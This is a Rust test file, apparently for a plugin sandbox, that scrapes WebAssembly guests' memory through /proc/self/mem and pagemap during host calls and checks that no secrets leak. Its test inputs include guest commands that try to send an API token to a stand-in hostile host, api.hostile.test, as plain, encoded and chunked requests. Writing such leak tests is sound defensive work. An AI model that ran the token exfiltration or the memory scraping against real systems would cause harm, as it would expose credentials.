//! The secret test from outside: the linear memories of all guests, read while their calls end.
//!
//! This finds the memories that wasmtime gave out through `/proc/self`, and reads them at every host call and when a call has ended but its Store is not yet discarded, whatever the guest
//! is: so it holds for plugins that behave as well as for those that hide what they know.

use std::fs::{self, File};
use std::os::unix::fs::FileExt as _;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::mpsc::{Receiver, Sender, channel};
use std::sync::{Arc, Mutex};

use neustream_contract::{Call, Kind, PlanCeilings};
use neustream_plugin_wasm::{HostAnswer, HostCall, Tape};

use crate::kit::{Platform, SECRETS};
use crate::mirror::Mirror;
use crate::secrets::hold_no_secret;

/// Reads all guests' memories when somebody passes the door, and hands them to whoever searches them: a search would
/// be charged to the guest.
struct Watch {
    looks: AtomicUsize,
    seen: Mutex<Sender<(String, Vec<u8>)>>,
}

impl Watch {
    fn look(&self, when: &str) {
        let seen = self.seen.lock().unwrap();
        for memory in memories() {
            seen.send((when.to_owned(), memory)).unwrap();
        }
        self.looks.fetch_add(1, Ordering::Relaxed);
    }
}

impl Tape for Watch {
    fn record(&self, _: &str, _: u32, asked: &HostCall, _: &HostAnswer) {
        self.look(&format!("{asked:?}"));
    }

    fn ended(&self, _: &str) {
        self.look("the end of a call");
    }
}

/// What a search of all that was seen came to.
#[derive(Default)]
struct Found {
    bytes: usize,
    /// Memories with [`MARK`].
    of_the_guest: usize,
    secrets: Vec<String>,
}

fn searched(seen: Receiver<(String, Vec<u8>)>) -> Found {
    let mut found = Found::default();
    for (when, memory) in seen {
        found.bytes += memory.len();
        found.of_the_guest += usize::from(memchr::memmem::find(&memory, MARK.as_bytes()).is_some());
        if std::panic::catch_unwind(|| hold_no_secret("a guest's memory", &memory)).is_err() {
            found.secrets.push(when);
        }
    }
    found
}

/// What the test hands to the guest, so that it knows its memory when it sees it.
const MARK: &str = "a-mark-that-only-this-test-makes";

/// What guests' memories hold now: the pages that are there.
///
/// A memory begins as a copy-on-write view of its module's data, a file in memory of that name; what lies next to it
/// and can be written, before and behind, is the rest of that memory. Between memories lies what nobody may touch.
fn memories() -> Vec<Vec<u8>> {
    let maps = fs::read_to_string("/proc/self/maps").expect("the process's mappings");
    let mappings: Vec<Mapping> = maps.lines().map(Mapping::read).collect();
    let memory = File::open("/proc/self/mem").expect("the process's memory");
    let present = File::open("/proc/self/pagemap").expect("the process's pages");
    let mut memories = Vec::new();
    for (index, image) in mappings.iter().enumerate().filter(|(_, mapping)| mapping.is_image) {
        let (mut from, mut to) = (image.from, image.to);
        for before in mappings[..index].iter().rev() {
            if before.to != from || !before.is_writable {
                break;
            }
            from = before.from;
        }
        for behind in &mappings[index + 1..] {
            if behind.from != to || !behind.is_writable {
                break;
            }
            to = behind.to;
        }
        memories.push(pages(&memory, &present, from, to));
    }
    memories
}

/// One line of `/proc/self/maps`.
struct Mapping {
    from: u64,
    to: u64,
    is_writable: bool,
    is_image: bool,
}

impl Mapping {
    fn read(line: &str) -> Self {
        let mut fields = line.split_whitespace();
        let (from, to) = fields.next().and_then(|range| range.split_once('-')).expect("a range");
        let number = |text| u64::from_str_radix(text, 16).expect("an address");
        Self {
            from: number(from),
            to: number(to),
            is_writable: fields.next().is_some_and(|rights| rights.starts_with("rw")),
            is_image: line.contains("wasm-memory-image"),
        }
    }
}

/// The pages of a range that are in memory, one after the other.
fn pages(memory: &File, present: &File, from: u64, to: u64) -> Vec<u8> {
    const PAGE: u64 = 4096;
    let count = ((to - from) / PAGE) as usize;
    let mut map = vec![0; count * 8];
    let read = present.read_at(&mut map, from / PAGE * 8).unwrap_or_default();
    let mut found = Vec::new();
    for (index, entry) in map[..read].as_chunks::<8>().0.iter().enumerate() {
        // Bit 63: the page is there.
        if u64::from_le_bytes(*entry) >> 63 == 0 {
            continue;
        }
        let mut page = [0; PAGE as usize];
        if memory.read_exact_at(&mut page, from + index as u64 * PAGE).is_ok() {
            found.extend_from_slice(&page);
        }
    }
    found
}

#[tokio::test]
async fn no_memory_of_a_guest_ever_holds_a_secret() {
    let mirror = Mirror::start().await;
    let (seen, to_search) = channel();
    let watch = Arc::new(Watch { looks: AtomicUsize::new(0), seen: Mutex::new(seen) });
    let search = std::thread::spawn(move || searched(to_search));
    let tape = Arc::clone(&watch) as Arc<dyn Tape>;
    let platform = Platform::open_with(mirror.settings.clone(), |settings| settings.tape = Some(tape)).await;
    let call = |kind| {
        let ceilings = PlanCeilings { cpu_percent: 400, wall_percent: 400, ..PlanCeilings::default() };
        Call { ceilings, ..platform.call(kind) }
    };
    for path in ["/", "/encoded", "/chunks", "/refused"] {
        for kind in [Kind::Destination, Kind::Payment] {
            let deed = format!("send-twice api-token https://api.hostile.test{path}?{MARK}");
            let _ = platform.deed_of(kind, &call(kind), &deed).await;
        }
    }
    for kind in [Kind::Chat, Kind::Destination, Kind::Payment] {
        let deed = if kind == Kind::Destination { "mac x".to_owned() } else { format!("mac webhook {MARK}") };
        platform.deed_of(kind, &call(kind), &deed).await.expect("a MAC");
    }
    let filter = call(Kind::Moderation);
    platform.deed_of(Kind::Moderation, &filter, &format!("log {MARK}")).await.expect("a line");
    let looks = watch.looks.load(Ordering::Relaxed);
    drop(platform);
    drop(watch);
    let found = tokio::task::spawn_blocking(|| search.join().unwrap()).await.unwrap();
    println!(
        "{looks} looks at {} MB of guests' memory for {} secrets",
        found.bytes / 1_000_000,
        SECRETS.len()
    );
    assert!(looks > 20 && found.bytes > 1_000_000, "{looks} looks at {} bytes", found.bytes);
    assert!(found.of_the_guest > 10, "what was read are the guests' memories: {}", found.of_the_guest);
    assert_eq!(found.secrets, Vec::<String>::new());
}
